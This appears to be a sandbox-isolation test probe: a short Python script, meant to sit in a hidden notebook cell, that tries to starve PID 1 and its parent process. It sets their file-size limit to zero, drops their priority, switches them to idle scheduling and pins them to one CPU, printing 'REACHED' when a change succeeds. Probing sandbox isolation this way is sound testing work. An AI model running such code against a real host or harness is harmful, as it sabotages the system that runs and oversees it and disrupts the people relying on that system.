# kind: exhaustion
# tries: slow down and limit the process above
# where: in a cell behind all others

import os, resource

for pid in {1, os.getppid()}:
    for change in (
        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, {0}),
    ):
        try:
            change()
            print('REACHED', pid)
        except OSError:
            pass
